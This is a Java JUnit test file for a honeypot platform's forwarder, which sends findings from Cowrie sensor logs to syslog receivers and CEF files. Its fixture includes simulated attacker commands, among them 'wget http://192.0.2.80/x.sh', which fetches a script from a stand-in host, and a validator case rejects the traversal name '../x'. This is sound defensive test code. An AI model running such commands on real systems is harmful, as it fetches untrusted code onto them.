package org.decnet.server.forward;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import javax.net.ssl.SSLSocketFactory;
import org.decnet.attack.AttackCatalogs;
import org.decnet.export.finding.FindingFormat;
import org.decnet.export.finding.FindingFormats;
import org.decnet.ingest.DeadLetters;
import org.decnet.ingest.Ingest;
import org.decnet.ingest.IngestListener;
import org.decnet.ingest.cowrie.CowrieCodec;
import org.decnet.model.tag.StoredTag;
import org.decnet.server.finding.FindingReader;
import org.decnet.server.node.IngestRun;
import org.decnet.server.node.Node;
import org.decnet.server.node.NodeSettings;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** From raw lines of a sensor to what a receiver of syslog gets. */
class ForwarderTest {
  @TempDir private Path folder;
  private Node node;

  @BeforeEach
  void open() {
    node = Node.open(new NodeSettings(folder.resolve("data")));
  }

  @AfterEach
  void close() {
    node.close();
  }

  /** A receiver that takes some messages of a connection and then goes away. */
  private record Receiver(ServerSocket socket) implements AutoCloseable {
    static Receiver at(int port) throws IOException {
      ServerSocket socket = new ServerSocket();
      socket.setReuseAddress(true);
      socket.bind(new java.net.InetSocketAddress(InetAddress.getLoopbackAddress(), port));
      return new Receiver(socket);
    }

    /** Takes a connection, reads up to so many messages, and closes it. */
    CompletableFuture<List<String>> take(int most) {
      return CompletableFuture.supplyAsync(() -> {
        List<String> messages = new ArrayList<>();
        try (Socket connection = socket.accept()) {
          InputStream in = connection.getInputStream();
          int length = length(in);
          while (length >= 0) {
            messages.add(new String(in.readNBytes(length), StandardCharsets.UTF_8));
            length = messages.size() < most ? length(in) : -1;
          }
        } catch (IOException e) {
          messages.add("broken: " + e.getMessage());
        }
        return messages;
      });
    }

    private static int length(InputStream in) throws IOException {
      int length = -1;
      for (int c = in.read(); c >= 0 && c != ' '; c = in.read()) {
        assertThat(c).isBetween((int) '0', (int) '9');
        length = Math.max(length, 0) * 10 + (c - '0');
      }
      return length;
    }

    int port() {
      return socket.getLocalPort();
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  private void ingest(int session) {
    StringBuilder log = new StringBuilder();
    for (String command : List.of("uname -a", "crontab -l", "wget http://192.0.2.80/x.sh")) {
      log.append("{\"eventid\":\"cowrie.command.input\",\"timestamp\":\"2026-03-01T04:05:1")
          .append(log.length() % 10)
          .append(".000000Z\",\"sensor\":\"web-1\",\"session\":\"5e5510")
          .append(10 + session)
          .append("\",\"src_ip\":\"198.51.100.7\",\"input\":\"")
          .append(command)
          .append("\",\"message\":\"\"}\n");
    }
    Ingest ingest =
        new Ingest(
            List.of(new CowrieCodec(node.stores().events())),
            DeadLetters.none(),
            IngestListener.NONE);
    IngestRun run = node.ingest();
    try (run) {
      ingest.read(
          new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8)), "test", run);
    }
  }

  private Forwarder forwarder(String target, String format) throws IOException {
    return forwarder(
        target, FindingFormats.of(format, new AttackCatalogs().load(), "1.0").orElseThrow());
  }

  private Forwarder forwarder(String target, FindingFormat format) throws IOException {
    return new Forwarder(
        node.stores().tags(),
        new FindingReader(node.stores(), () -> node.rules().active().pack()),
        format,
        ForwardTarget.of(target).orElseThrow(),
        (SSLSocketFactory) SSLSocketFactory.getDefault(),
        ForwardFolder.open(folder, "siem"),
        Clock.systemUTC());
  }

  private List<String> stored() {
    return node.stores().tags().tagsAfter(null, null, 1000).stream()
        .map((StoredTag stored) -> stored.tag().uuid().toString())
        .toList();
  }

  private static String id(String message) {
    int at = message.indexOf("tag=\"") + 5;
    return message.substring(at, at + 36);
  }

  @Test
  void aReceiverGetsEachFindingAsOneMessage() throws Exception {
    ingest(1);
    try (Receiver receiver = Receiver.at(0)) {
      CompletableFuture<List<String>> got = receiver.take(1000);
      try (Forwarder forwarder = forwarder("tcp://127.0.0.1:" + receiver.port(), "syslog")) {
        assertThat(forwarder.turn()).isEqualTo(stored().size());
        assertThat(forwarder.turn()).isZero();
      }
      assertThat(got.get())
          .hasSizeGreaterThan(2)
          .allMatch(message -> message.startsWith("<13") && message.contains("[relay@55555 "))
          .extracting(ForwarderTest::id)
          .containsExactlyElementsOf(stored());
    }
  }

  @Test
  void whatAReceiverMissedWhileItWasDownComesWhenItIsBack() throws Exception {
    List<String> got = new ArrayList<>();
    int port;
    Forwarder forwarder;
    ingest(1);
    try (Receiver receiver = Receiver.at(0)) {
      port = receiver.port();
      forwarder = forwarder("tcp://127.0.0.1:" + port, "syslog");
      CompletableFuture<List<String>> some = receiver.take(2);
      assertThatThrownBy(forwarder::turn).isInstanceOf(IOException.class);
      got.addAll(some.get());
    }
    ingest(2);
    assertThatThrownBy(forwarder::turn).isInstanceOf(IOException.class);
    ingest(3);
    assertThatThrownBy(forwarder::turn).isInstanceOf(IOException.class);
    try (Receiver receiver = Receiver.at(port)) {
      CompletableFuture<List<String>> rest = receiver.take(1000);
      assertThat(forwarder.turn()).isEqualTo(stored().size());
      forwarder.close();
      got.addAll(rest.get());
    }
    List<String> ids = got.stream().map(ForwarderTest::id).distinct().toList();
    assertThat(ids).containsExactlyInAnyOrderElementsOf(stored());
    assertThat(got).as("two came twice").hasSize(ids.size() + 2);
  }

  @Test
  void anOutputGoesOnWhereItEnded() throws Exception {
    Path file = folder.resolve("out.cef");
    ingest(1);
    try (Forwarder forwarder = forwarder("file:" + file, "cef")) {
      assertThat(forwarder.turn()).isPositive();
    }
    ingest(2);
    try (Forwarder forwarder = forwarder("file:" + file, "cef")) {
      assertThat(forwarder.turn()).isPositive();
      assertThat(forwarder.turn()).isZero();
    }
    assertThat(Files.readAllLines(file))
        .hasSameSizeAs(stored())
        .doesNotHaveDuplicates()
        .allMatch(line -> line.startsWith("CEF:0|DECNET|"));
  }

  @Test
  void whatNoReceiverTakesIsLaidAside() throws Exception {
    ingest(1);
    FindingFormat longOnes =
        new FindingFormat() {
          @Override
          public String line(org.decnet.export.finding.Finding finding) {
            String id = finding.tag().uuid().toString();
            return id.equals(stored().getFirst()) ? "x".repeat(8193) : "tag=\"" + id;
          }

          @Override
          public String mediaType() {
            return "text/plain";
          }
        };
    try (Receiver receiver = Receiver.at(0)) {
      CompletableFuture<List<String>> got = receiver.take(1000);
      try (Forwarder forwarder = forwarder("tcp://127.0.0.1:" + receiver.port(), longOnes)) {
        forwarder.turn();
      }
      assertThat(got.get()).hasSize(stored().size() - 1);
    }
    assertThat(Files.readString(folder.resolve("forward/siem.dead.ndjson")))
        .isEqualTo(
            "{\"tag\":\""
                + stored().getFirst()
                + "\",\"octets\":8193,\"reason\":\"longer than 8192 octets\"}\n");
  }

  @Test
  void targetsAreReadAndOthersRefused() {
    assertThat(ForwardTarget.of("tls://siem.example:6514"))
        .contains(new ForwardTarget.Stream("siem.example", 6514, true));
    assertThat(ForwardTarget.of("tcp://[2001:db8::1]:601"))
        .contains(new ForwardTarget.Stream("2001:db8::1", 601, false));
    for (String wrong :
        List.of("", "file:", "udp://a:1", "tcp://a", "tcp://a:1/x", "tcp://u@a:1", "a:1", "tcp:")) {
      assertThat(ForwardTarget.of(wrong)).as(wrong).isEmpty();
    }
    assertThat(List.of("a", "siem-1", "a.b")).allMatch(ForwardFolder::isName);
    assertThat(List.of("", ".a", "../x", "a/b", "é", "a b")).noneMatch(ForwardFolder::isName);
  }
}
